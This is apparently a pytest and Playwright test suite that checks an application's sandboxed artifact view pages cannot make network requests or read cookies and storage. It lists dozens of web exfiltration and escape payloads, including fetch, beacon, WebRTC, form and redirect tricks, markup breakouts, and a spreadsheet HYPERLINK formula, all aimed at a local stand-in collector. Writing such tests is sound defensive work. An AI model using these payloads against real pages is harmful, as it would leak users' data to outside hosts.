"""Hostile content on view pages, in a real browser: nothing that it tries is heard of elsewhere, by anybody.

Each attack goes to a collector of its own, which hears a bare connection too, and has its control: the same content as
a plain page, from which the collector does hear.
"""

import asyncio
import contextlib
import os
import time
from collections.abc import AsyncGenerator, AsyncIterator, Awaitable, Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx2
import pytest
import pytest_asyncio
from markdown_it import MarkdownIt
from playwright.async_api import BrowserContext, ConsoleMessage, Error, Page, async_playwright, expect

pytestmark = pytest.mark.asyncio(loop_scope="module")

CHROMIUM = Path("/usr/bin/chromium")
FLAGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-sync",
    # A browser that keeps pages from this machine would make the walls of the page look better than they are.
    "--disable-features=LocalNetworkAccessChecks",
)
# Under this one a browser does not connect ahead of demand, and what would be heard is not.
NOT_FLAGS = ("--disable-background-networking",)
PATIENCE_SECONDS = 5.0
QUIET_SECONDS = 0.6
ALIVE = "<script>console.log('alive')</script>"

Show = Callable[[str, str, str], Awaitable[str]]


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """Content that calls `AT`, an address, or `PORT` on this machine; `press` is what a user is lured to click."""

    html: str
    press: str | None = None


def script(code: str) -> Attack:
    return Attack(html=f"{ALIVE}<p>text</p><script>{code}</script>")


def markup(html: str, *, press: str | None = None) -> Attack:
    return Attack(html=f"{ALIVE}<p>text</p>{html}", press=press)


ATTACKS: Mapping[str, Attack] = {
    "fetch": script("fetch('AT')"),
    "fetch without cors": script("fetch('AT', {mode: 'no-cors', keepalive: true})"),
    "XMLHttpRequest": script("const x = new XMLHttpRequest(); x.open('GET', 'AT'); x.send()"),
    "beacon": script("navigator.sendBeacon('AT', 'secret')"),
    "WebSocket": script("new WebSocket('ws://127.0.0.1:PORT/')"),
    "EventSource": script("new EventSource('AT')"),
    "dynamic import": script("import('AT/a.js')"),
    "worker": script("new Worker(URL.createObjectURL(new Blob([\"fetch('AT')\"])))"),
    "image by script": script("new Image().src = 'AT/a.png'"),
    "WebRTC by UDP": script(
        "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});"
        "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))"
    ),
    "WebRTC by TCP": script(
        "const c = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'u', "
        "credential: 'p'}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))"
    ),
    "location": script("location = 'AT'"),
    "location replaced": script("location.replace('AT')"),
    "top location": script("top.location = 'AT'"),
    "parent location": script("parent.location = 'AT'"),
    "link by script": script(
        "const a = document.createElement('a'); a.href = 'AT'; document.body.append(a); a.click()"
    ),
    "form by script": markup(
        "<form action='AT' method=post id=f><input name=a value=b></form><script>f.submit()</script>"
    ),
    "form into a window": markup("<form action='AT' target=_blank><button id=go>Go</button></form>", press="#go"),
    "form by click": markup("<form action='AT'><button id=go>Go</button></form>", press="#go"),
    "window.open": markup("<button id=go onclick=\"window.open('AT')\">Go</button>", press="#go"),
    "link": markup("<a id=go href='AT'>Go</a>", press="#go"),
    "link into a window": markup("<a id=go href='AT' target=_blank>Go</a>", press="#go"),
    "link at the top": markup("<a id=go href='AT' target=_top>Go</a>", press="#go"),
    "link with ping": markup("<a id=go href='#x' ping='AT'>Go</a>", press="#go"),
    "download link": markup("<a id=go href='AT' download>Go</a>", press="#go"),
    "meta refresh": markup("<meta http-equiv=refresh content='0; url=AT'>"),
    "image": markup("<img src='AT/a.png'>"),
    "image set": markup("<img srcset='AT/a.png 1x'>"),
    "picture by base": markup("<base href='AT/'><img src=a.png>"),
    "media": markup("<video src='AT/a.mp4' autoplay></video>"),
    "poster": markup("<video poster='AT/a.png'></video>"),
    "style sheet": markup("<link rel=stylesheet href='AT/a.css'>"),
    "style import": markup("<style>@import url('AT/a.css');</style>"),
    "style background": markup("<style>p { background: url('AT/a.png') }</style>"),
    "style attribute": markup("<p style=\"background: url('AT/a.png')\">x</p>"),
    "font": markup("<style>@font-face { font-family: f; src: url('AT/a.woff2') } p { font-family: f }</style>"),
    "script": markup("<script src='AT/a.js'></script>"),
    "frame": markup("<iframe src='AT'></iframe>"),
    "object": markup("<object data='AT/a.html'></object>"),
    "embed": markup("<embed src='AT/a.html'>"),
    "drawing in the page": markup("<svg><image href='AT/a.png' width=9 height=9 /></svg>"),
    "frame in the frame": markup("<iframe srcdoc=\"<script>fetch('AT')</script>\"></iframe>"),
    "frame in the frame that leaves": markup("<iframe srcdoc=\"<script>location = 'AT'</script>\"></iframe>"),
    "prefetch": markup("<link rel=prefetch href='AT'>"),
    "preload": markup("<link rel=preload as=image href='AT/a.png'>"),
    "module preload": markup("<link rel=modulepreload href='AT/a.js'>"),
    "preconnect": markup("<link rel=preconnect href='AT'>"),
    "out of the attribute": markup("\"></iframe><img src='AT/a.png'><iframe srcdoc=\""),
    "out of its tags": markup("</script></style></title></textarea>]]>--><img src='AT/a.png'>"),
}

MARKDOWN = """# Innocent
![a picture](AT/a.png) <img src="AT/b.png"> <script>fetch("AT")</script>
<svg onload="fetch('AT')"><image href="AT/c.png"></svg> </script><style>@import url(AT);</style>

[reference][r] <AT> [script](javascript:fetch('AT')) [data](data:text/html,<script>fetch('AT')</script>)

<iframe srcdoc="<img src='AT/d.png'>"></iframe> <meta http-equiv="refresh" content="0; url=AT">
<link rel=preconnect href="AT"> "></iframe><img src='AT/e.png'> ]]>

```"><img src=AT/f.png>
</code></pre><img src=AT/g.png>
```

[r]: AT "\\"><img src=AT/h.png>"
"""
DRAWING = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90"
onload="fetch('AT')"><script>fetch('AT')</script><style>@import url("AT/a.css"); rect { fill: url("AT/b.svg#x") }
</style>
<image href="AT/a.png" width="9" height="9"/><use xlink:href="AT/c.svg#x"/><rect width="90" height="90"/>
<foreignObject width="50" height="50"><img xmlns="http://www.w3.org/1999/xhtml" src="AT/d.png"/></foreignObject>
</svg>"""


@dataclass(slots=True)
class Collector(asyncio.DatagramProtocol):
    """Hears every connection and every datagram at one port of this machine."""

    port: int = 0
    heard: list[str] = field(default_factory=list[str])
    _first: asyncio.Event = field(default_factory=asyncio.Event)

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def aimed(self, content: str) -> str:
        return content.replace("AT", self.address).replace("PORT", str(self.port))

    async def hear(self, seconds: float) -> list[str]:
        """Wait for a first word, at most so long."""
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(self._first.wait(), seconds)
        return self.heard

    def note(self, what: str) -> None:
        self.heard.append(what)
        self._first.set()

    def datagram_received(self, data: bytes, addr: tuple[str | Any, int]) -> None:
        self.note(f"{len(data)} bytes by UDP")

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.note("a connection")
        with contextlib.suppress(ConnectionError, ValueError):
            self.note((await reader.readline()).decode("latin-1"))
            writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\naccess-control-allow-origin: *\r\n\r\nok")
            await writer.drain()
        writer.close()


@contextlib.asynccontextmanager
async def collecting() -> AsyncGenerator[Collector]:
    collector = Collector()
    server = await asyncio.start_server(collector.answer, "127.0.0.1", 0)
    collector.port = server.sockets[0].getsockname()[1]
    datagrams, _ = await asyncio.get_running_loop().create_datagram_endpoint(
        lambda: collector, local_addr=("127.0.0.1", collector.port)
    )
    try:
        yield collector
    finally:
        datagrams.close()
        server.close()


@contextlib.asynccontextmanager
async def staged(content: str, media_type: str = "text/html") -> AsyncGenerator[str]:
    """Serve content with no header that would hold it in, and yield where."""
    body = content.encode()

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
            await reader.readuntil(b"\r\n\r\n")
            head = (
                f"HTTP/1.1 200 OK\r\ncontent-type: {media_type}; charset=utf-8\r\ncontent-length: {len(body)}\r\n\r\n"
            )
            writer.write(head.encode() + body)
            await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    try:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/"
    finally:
        server.close()


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def context(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[BrowserContext]:
    """A browser as a person has it: with a profile, and connecting ahead of demand."""
    if not CHROMIUM.exists():
        pytest.skip(f"there is no {CHROMIUM}")
    async with async_playwright() as playwright:
        context = await playwright.chromium.launch_persistent_context(
            tmp_path_factory.mktemp("profile"),
            executable_path=CHROMIUM,
            args=FLAGS,
            ignore_default_args=list(NOT_FLAGS),
            viewport={"width": 1100, "height": 720},
        )
        yield context
        await context.close()


@pytest_asyncio.fixture(loop_scope="module")
async def tab(context: BrowserContext) -> AsyncIterator[Page]:
    page = await context.new_page()
    yield page
    for each in context.pages:
        if each is not context.pages[0]:
            await each.close()


@pytest.fixture
def show(client: httpx2.AsyncClient, session: str) -> Show:
    """Stores content as an artifact, and returns the address of its view page."""

    async def show(type: str, content: str, title: str) -> str:
        made = await client.post(
            f"/sessions/{session}/artifacts", json={"type": type, "title": title, "content": content}
        )
        assert made.status_code == 201, made.text
        answer = await client.get(f"/artifacts/{made.json()['id']}/view")
        assert answer.status_code == 307, answer.text
        return answer.headers["location"]

    return show


@pytest.mark.parametrize("name", ATTACKS)
async def test_a_page_reaches_nothing(name: str, tab: Page, show: Show) -> None:
    attack = ATTACKS[name]
    async with collecting() as collector, staged(collector.aimed(attack.html)) as plain:
        since = time.monotonic()
        await _opened(tab, plain, attack.press)
        assert await collector.hear(PATIENCE_SECONDS), "the control is not heard, so silence would prove nothing"
        took = time.monotonic() - since
    tab = await tab.context.new_page()
    said: list[str] = []

    def note(message: ConsoleMessage) -> None:
        said.append(message.text)

    tab.on("console", note)
    async with collecting() as collector:
        address = await show("html-sandboxed", collector.aimed(attack.html), "A page")
        await _opened(tab, address, attack.press, in_frame=True)
        assert await collector.hear(max(QUIET_SECONDS, took)) == []
    assert "alive" in said
    assert tab.url == address


@pytest.mark.parametrize("type", ["markdown", "svg", "json", "csv", "code"])
async def test_what_is_no_page_reaches_nothing(type: str, tab: Page, show: Show) -> None:
    content = DRAWING if type == "svg" else MARKDOWN
    if type == "json":
        content = f'["</script><img src=AT/a.png>", "{ALIVE}", "<!-- ]]> --><iframe src=AT>"]'
    if type == "csv":
        content = f"a</td><img src=AT/a.png>\n{ALIVE}<script>fetch('AT')</script>\n=HYPERLINK(AT)\n"
    careless = MarkdownIt("commonmark").render(content) if type == "markdown" else content
    async with collecting() as collector:
        media_type = "image/svg+xml" if type == "svg" else "text/html"
        async with staged(collector.aimed(careless), media_type) as plain:
            await _opened(tab, plain, None)
            assert await collector.hear(PATIENCE_SECONDS), "the control is not heard, so silence would prove nothing"
    tab = await tab.context.new_page()
    async with collecting() as collector:
        address = await show(type, collector.aimed(content), '"><img src=AT/t.png></title><script>fetch("AT")</script>')
        await _opened(tab, address, None)
        for link in await tab.frame_locator("iframe").locator("a").all():
            await link.click()
        assert await collector.hear(QUIET_SECONDS) == []
    assert tab.url == address
    assert await tab.evaluate("[...document.body.children].map((each) => each.localName)") == ["header", "iframe"]
    frame = tab.frame_locator("iframe").locator("body")
    assert await frame.locator("script, iframe, object, embed, link, form, base, svg, [onload]").count() == 0


async def _opened(tab: Page, address: str, press: str | None, *, in_frame: bool = False) -> None:
    """Open an address, and do what the user is lured to. It may lead the tab away while it is opened."""
    with contextlib.suppress(Error):
        await tab.goto(address, wait_until="domcontentloaded")
    if press is not None:
        await (tab.frame_locator("iframe") if in_frame else tab).locator(press).click(no_wait_after=True)


async def test_links_within_a_page_lead_to_its_parts(tab: Page, show: Show) -> None:
    html = "<a id=go href='#end'>To the end</a><p style='margin-top: 3000px' id=end>The end</p>"
    await tab.goto(await show("html-sandboxed", html, "A long page"))
    frame = tab.frame_locator("iframe")
    await frame.locator("#go").click()
    await expect(frame.locator("#end")).to_be_in_viewport()


async def test_a_link_in_markdown_says_where_it_leads_and_leaves_the_page_as_it_is(tab: Page, show: Show) -> None:
    address = await show("markdown", "See [the data](https://example.com/q3).", "Report")
    await tab.goto(address)
    link = tab.frame_locator("iframe").get_by_role("link", name="the data")
    await link.click()
    await expect(tab.frame_locator("iframe").get_by_text("https://example.com/q3")).to_be_visible()
    assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert (tab.url, len(tab.context.pages)) == (address, 2)


@pytest.mark.parametrize(("type", "content"), [("markdown", "# Text"), ("html-sandboxed", "<p>Text</p>")])
async def test_a_page_offers_its_very_bytes(type: str, content: str, tab: Page, show: Show, tmp_path: Path) -> None:
    address = await show(type, content, "Text")
    await tab.goto(address)
    async with tab.expect_download(timeout=5000) as started:
        await tab.get_by_role("link", name="Download").click()
    await (await started.value).save_as(tmp_path / "saved")
    assert (tmp_path / "saved").read_text(encoding="utf-8") == content
    assert tab.url == address


async def test_script_in_a_page_has_no_origin_and_touches_nothing(tab: Page, show: Show) -> None:
    probes = {
        "origin": "self.origin",
        "parent": "parent.document.title",
        "cookie": "document.cookie",
        "storage": "localStorage.length",
        "session": "sessionStorage.length",
        "frame": "frameElement",
    }
    code = "".join(
        f"try {{ told.{name} = String({probe}) }} catch {{ told.{name} = 'refused' }};"
        for name, probe in probes.items()
    )
    end = "document.querySelector('p').textContent = JSON.stringify(told)"
    html = f"<p id=told></p><script>const told = {{}}; {code} {end}</script>"
    await tab.goto(await show("html-sandboxed", html, "A curious page"))
    told = tab.frame_locator("iframe").locator("#told")
    await expect(told).to_have_text(
        '{"origin":"null","parent":"refused","cookie":"refused","storage":"refused","session":"refused","frame":"null"}'
    )


async def test_a_page_of_another_origin_may_not_frame_it_and_the_application_may(
    tab: Page, url: str, show: Show
) -> None:
    address = await show("markdown", "# Framed", "Framed")
    outer = f"<iframe id=outer src='{address}'></iframe>"
    async with staged(outer) as elsewhere:
        await tab.goto(elsewhere)
        inner = tab.frame_locator("#outer").frame_locator("iframe").get_by_text("Framed")
        await expect(tab.frame_locator("#outer").locator("body")).to_be_attached()
        assert await inner.count() == 0
    await tab.route(f"{url}/embedding", lambda route: route.fulfill(content_type="text/html", body=outer))
    await tab.goto(f"{url}/embedding")
    await expect(
        tab.frame_locator("#outer").frame_locator("iframe").get_by_role("heading", name="Framed")
    ).to_be_visible()


@pytest.mark.parametrize("width", [360, 1280])
@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_no_page_is_wider_than_the_screen(width: int, scheme: str, tab: Page, show: Show) -> None:
    contents = {
        "markdown": f"# Report\n\n{'unbroken' * 40}\n\n|a|b|\n|-|-|\n|{'x' * 300}|y|\n\n`{'code' * 90}`\n\n"
        f"```python\n{'x = 1; ' * 60}\n```\n",
        "svg": DRAWING.replace('width="90"', 'width="4000"', 1),
        "html-sandboxed": "<p>Text</p>",
    }
    await tab.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
    await tab.set_viewport_size({"width": width, "height": 780})
    for type, content in contents.items():
        await tab.goto(await show(type, content, "A title that is long " * 9))
        assert await tab.evaluate("document.documentElement.scrollWidth") == width
        inner = await tab.frame_locator("iframe").locator("html").evaluate("(it) => it.scrollWidth - it.clientWidth")
        assert inner == 0, type
        if folder := os.environ.get("GALLERY_PICTURES"):
            await tab.screenshot(path=Path(folder) / f"view-{type}-{scheme}-{width}.png")
